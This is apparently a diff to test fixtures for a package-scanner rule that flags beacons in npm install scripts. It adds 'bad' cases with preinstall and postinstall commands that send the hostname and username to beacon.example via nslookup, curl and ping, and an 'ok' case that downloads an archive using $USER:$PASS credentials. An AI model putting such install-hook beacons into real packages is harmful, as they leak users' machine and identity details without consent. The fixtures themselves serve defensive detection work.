@@ -3,6 +3,21 @@ import { defineCases } from '../../src/rule.ts';
 export default defineCases({
   bad: [
     {
+      name: 'a look-up of a name, by a command of the install',
+      manifest: { scripts: { postinstall: 'nslookup $(whoami).$(hostname).beacon.example' } },
+      code: '',
+    },
+    {
+      name: 'a request, by a command of the install',
+      manifest: { scripts: { preinstall: 'curl -s "https://beacon.example/?h=$(hostname)&u=$(whoami)" || true' } },
+      code: '',
+    },
+    {
+      name: 'a shell script that the install runs',
+      manifest: { scripts: { postinstall: 'sh x.sh' } },
+      files: { 'index.js': '', 'x.sh': '#!/bin/sh\nH=$(hostname)\nping -c1 "$H.beacon.example"\n' },
+    },
+    {
       name: 'a beacon at preinstall',
       manifest: { scripts: { preinstall: 'node b.js' } },
       files: {
@@ -22,6 +37,16 @@ export default defineCases({
     },
   ],
   ok: [
+    {
+      name: 'a download for this kind of machine, by a command of the install',
+      manifest: {
+        scripts: {
+          postinstall:
+            'curl -L -u "$USER:$PASS" -o /home/$(whoami)/x.tgz https://a.example/x-$(uname -s)-$(uname -m).tgz; ping -c1 a.example; chown $(id -u) x.tgz',
+        },
+      },
+      code: '',
+    },
     {
       name: 'a log line with the host name',
       code: "const os = require('os'); exports.line = (text) => `${os.hostname()} ${text}`",
